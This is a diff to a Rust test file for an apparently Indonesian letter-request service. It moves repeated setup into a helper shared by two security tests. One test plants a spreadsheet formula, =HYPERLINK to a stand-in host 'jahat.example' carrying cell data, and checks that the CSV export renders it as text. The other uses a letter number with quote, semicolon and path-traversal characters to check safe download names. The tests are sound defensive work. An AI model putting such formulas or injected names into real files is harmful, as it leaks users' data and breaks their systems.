@@ -875,10 +875,8 @@ async fn templates_and_number_formats_are_checked_when_saved(app: TestApp) {
     );
 }
 
-/// The Agenda's CSV hands a spreadsheet no formula: a purpose typed as one comes out as text.
-async fn the_agenda_csv_hands_a_spreadsheet_no_formula(app: TestApp) {
-    let w = world(&app).await;
-    let purpose = "=HYPERLINK(\"http://jahat.example/?d=\"&A1,\"klik\")";
+/// A walk-in domicile letter for the neighbour, entered by the operator and signed by the admin.
+async fn signed_walk_in(app: &TestApp, w: &World, purpose: &str) -> Value {
     let res = app
         .post(
             &path(A, "letter-requests"),
@@ -891,7 +889,14 @@ async fn the_agenda_csv_hands_a_spreadsheet_no_formula(app: TestApp) {
         .as_str()
         .unwrap()
         .to_string();
-    moved(&app, &w.admin, &id, "siap_diambil").await;
+    moved(app, &w.admin, &id, "siap_diambil").await
+}
+
+/// The Agenda's CSV hands a spreadsheet no formula: a purpose typed as one comes out as text.
+async fn the_agenda_csv_hands_a_spreadsheet_no_formula(app: TestApp) {
+    let w = world(&app).await;
+    let purpose = "=HYPERLINK(\"http://jahat.example/?d=\"&A1,\"klik\")";
+    signed_walk_in(&app, &w, purpose).await;
     let res = app
         .get(&path(A, "letters?format=csv"), Some(&w.admin))
         .await;
@@ -917,18 +922,8 @@ async fn download_names_keep_to_safe_characters(app: TestApp) {
         )
         .await;
     assert_eq!(res.status(), StatusCode::OK);
-    let res = app
-        .post(
-            &path(A, "letter-requests"),
-            Some(&w.operator),
-            &json!({"type": "domisili", "purpose": "Administrasi", "subject_id": w.people[3]["id"]}),
-        )
-        .await;
-    let id = res.json::<Value>().await.unwrap()["id"]
-        .as_str()
-        .unwrap()
-        .to_string();
-    let signed = moved(&app, &w.admin, &id, "siap_diambil").await;
+    let signed = signed_walk_in(&app, &w, "Administrasi").await;
+    let id = signed["id"].as_str().unwrap();
     assert_eq!(signed["number"], "Ket.\"001\"; x=y\\..\\");
     let res = app
         .get(&path(A, &format!("letters/{id}/pdf")), Some(&w.admin))
